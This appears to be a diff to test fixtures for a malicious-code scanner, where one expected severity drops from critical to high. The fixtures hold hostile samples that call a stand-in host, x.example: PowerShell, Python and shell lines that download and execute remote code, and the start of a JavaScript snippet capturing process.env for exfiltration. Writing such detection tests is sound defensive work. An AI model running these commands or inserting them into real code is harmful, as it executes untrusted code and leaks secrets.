@@ -151,7 +151,7 @@ DETECTED += [
      "$f = 'Invoke-Ex' + 'pression'\n& $f (iwr https://x.example/a -UseBasicParsing).Content\n"),
     ("download_exec", "critical", "scripts/a.py",
      "import urllib.request as net\nsrc = net.urlopen('https://x.example/m.py').read()\nrun = exec\nrun(src)\n"),
-    ("download_exec", "critical", "scripts/a.sh", "curl -fso /tmp/m.sh https://x.example/m && source /tmp/m.sh\n"),
+    ("download_exec", "high", "scripts/a.sh", "curl -fso /tmp/m.sh https://x.example/m && source /tmp/m.sh\n"),
     # the environment sent through a name
     ("exfiltration", "critical", "scripts/a.js",
      "const https = require('https');\nconst snapshot = JSON.stringify(process.env);\n"
